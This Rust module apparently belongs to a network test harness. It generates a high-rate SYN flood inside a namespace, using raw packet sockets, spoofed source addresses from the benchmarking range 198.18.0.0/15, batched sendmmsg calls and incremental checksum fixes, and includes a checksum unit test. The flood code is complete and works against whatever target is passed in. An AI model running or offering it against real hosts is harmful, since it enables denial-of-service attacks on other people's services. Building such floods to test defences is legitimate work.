//! A SYN flood: connections are asked for, from addresses that nobody has, as fast as it goes.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use etherparse::PacketBuilder;
use nix::libc;

use super::host::{Host, parse_mac};
use super::packet_socket::{self, Receives};

/// The network that the SYNs come from: 198.18.0.0/15, which is for tests of performance (RFC 2544).
pub const SOURCES: (Ipv4Addr, u8) = (Ipv4Addr::new(198, 18, 0, 0), 15);

/// SYNs handed to the kernel at once.
const BATCH: usize = 64;
/// Where fields are in the frames.
const IP: usize = 14;
const IP_SOURCE: usize = IP + 12;
const TCP: usize = IP + 20;

/// A flood on a thread of its own.
#[derive(Debug)]
pub struct Flood {
    thread: JoinHandle<Result<Duration>>,
}

impl Flood {
    /// Sends `count` SYNs to `to` from random addresses and ports, by an interface of `host`, to the
    /// MAC address `gateway` (as `ip` prints it).
    pub fn start(
        (host, interface): (&Arc<Host>, &str),
        gateway: &str,
        to: SocketAddrV4,
        count: u64,
    ) -> Result<Self> {
        let template = syn(&host.mac(interface)?, gateway, to)?;
        let socket = packet_socket::open(host, interface, Receives::Nothing)?;
        let (level, name) = (libc::SOL_PACKET, libc::PACKET_QDISC_BYPASS);
        packet_socket::set_option(&socket, level, name, &1i32)
            .context("cannot go past the queue")?;
        let thread = host.namespace().thread("flood", move || {
            let begin = Instant::now();
            send_all(&socket, &template, count).context("cannot send SYNs")?;
            Ok(begin.elapsed())
        })?;
        Ok(Self { thread })
    }

    /// Whether all SYNs have been sent.
    #[must_use]
    pub fn is_over(&self) -> bool {
        self.thread.is_finished()
    }

    /// Waits for the end; returns how long it took.
    ///
    /// # Panics
    /// If its thread did.
    pub fn wait(self) -> Result<Duration> {
        match self.thread.join() {
            Ok(outcome) => outcome,
            Err(payload) => std::panic::resume_unwind(payload),
        }
    }
}

/// A SYN without a source.
fn syn(source_mac: &str, gateway: &str, to: SocketAddrV4) -> Result<Vec<u8>> {
    let builder = PacketBuilder::ethernet2(parse_mac(source_mac)?, parse_mac(gateway)?)
        .ipv4([0; 4], to.ip().octets(), 64)
        .tcp(0, to.port(), 0, 64240)
        .syn();
    let mut bytes = Vec::with_capacity(builder.size(0));
    builder
        .write(&mut bytes, &[])
        .context("cannot make a SYN")?;
    Ok(bytes)
}

fn send_all(socket: &OwnedFd, template: &[u8], count: u64) -> io::Result<()> {
    let mut frames = vec![template.to_vec(); BATCH];
    let mut random = 0x2545_f491_4f6c_dd1d_u64;
    let mut left = count;
    while left > 0 {
        let batch = usize::try_from(left).unwrap_or(BATCH).min(BATCH);
        for frame in &mut frames[..batch] {
            // xorshift: quick, and random enough to be new each time.
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            set_source(frame, template, random);
        }
        let mut sent = 0;
        while sent < batch {
            sent += send(socket, &mut frames[sent..batch])?;
        }
        left -= batch as u64;
    }
    Ok(())
}

/// Gives a SYN a source and a sequence number, and puts its checksums right.
fn set_source(frame: &mut [u8], template: &[u8], random: u64) {
    let bytes = random.to_be_bytes();
    let [a, b] = SOURCES.0.octets()[..2] else {
        return;
    };
    let source = [a, b | (bytes[0] & 1), bytes[1], bytes[2]];
    frame[IP_SOURCE..][..4].copy_from_slice(&source);
    frame[TCP..][..2].copy_from_slice(&bytes[3..5]);
    frame[TCP + 5..][..3].copy_from_slice(&bytes[5..8]);
    let address = [[source[0], source[1]], [source[2], source[3]]];
    let tcp = [[bytes[3], bytes[4]], [0, bytes[5]], [bytes[6], bytes[7]]];
    // What was there before is zero in the template.
    add_to_checksum(frame, template, IP + 10, &address);
    add_to_checksum(frame, template, TCP + 16, &[&address[..], &tcp].concat());
}

/// As RFC 1624 has it, for words that were zero.
fn add_to_checksum(frame: &mut [u8], template: &[u8], at: usize, words: &[[u8; 2]]) {
    let before = u16::from_be_bytes([template[at], template[at + 1]]);
    let added: u32 = words
        .iter()
        .map(|it| u32::from(u16::from_be_bytes(*it)))
        .sum();
    let mut sum = u32::from(!before) + added;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let folded = u16::try_from(sum).unwrap_or(u16::MAX);
    frame[at..][..2].copy_from_slice(&(!folded).to_be_bytes());
}

/// Sends some of the frames, at least one; returns how many.
fn send(socket: &OwnedFd, frames: &mut [Vec<u8>]) -> io::Result<usize> {
    let mut parts: Vec<libc::iovec> = frames
        .iter_mut()
        .map(|frame| libc::iovec {
            iov_base: frame.as_mut_ptr().cast(),
            iov_len: frame.len(),
        })
        .collect();
    let mut messages: Vec<libc::mmsghdr> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: a structure of integers and pointers, for which zero is a value.
            let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
            message.msg_hdr.msg_iov = part;
            message.msg_hdr.msg_iovlen = 1;
            message
        })
        .collect();
    let count = u32::try_from(messages.len()).map_err(io::Error::other)?;
    loop {
        // SAFETY: the kernel reads `count` messages, which lead to frames that live until the end.
        let sent = unsafe { libc::sendmmsg(socket.as_raw_fd(), messages.as_mut_ptr(), count, 0) };
        match usize::try_from(sent) {
            Ok(sent) => return Ok(sent),
            Err(_) => match io::Error::last_os_error() {
                // The interface's queue is full: what has to go out first does so soon.
                error if error.raw_os_error() == Some(libc::ENOBUFS) => std::thread::yield_now(),
                error => return Err(error),
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use etherparse::{NetSlice, SlicedPacket, TransportSlice};

    use super::*;

    #[test]
    fn syns_have_sources_of_their_own_and_right_checksums() {
        let to = SocketAddrV4::new(Ipv4Addr::new(192, 0, 2, 10), 80);
        let template = syn("02:00:00:00:00:01", "02:00:00:00:00:02", to).unwrap();
        let mut frame = template.clone();
        for random in [0, 1, u64::MAX, 0x0123_4567_89ab_cdef, 0xfedc_ba98_7654_3210] {
            set_source(&mut frame, &template, random);
            let packet = SlicedPacket::from_ethernet(&frame).unwrap();
            let (Some(NetSlice::Ipv4(ip)), Some(TransportSlice::Tcp(tcp))) =
                (packet.net, packet.transport)
            else {
                panic!("no TCP over IPv4")
            };
            let header = ip.header().to_header();
            assert_eq!(header.calc_header_checksum(), header.header_checksum);
            assert_eq!(
                header.source[..2],
                [198, 18 | u8::try_from(random >> 56 & 1).unwrap()]
            );
            let sum = tcp.to_header().calc_checksum_ipv4(&header, &[]).unwrap();
            assert_eq!(sum, tcp.checksum(), "{random:x}");
        }
    }
}
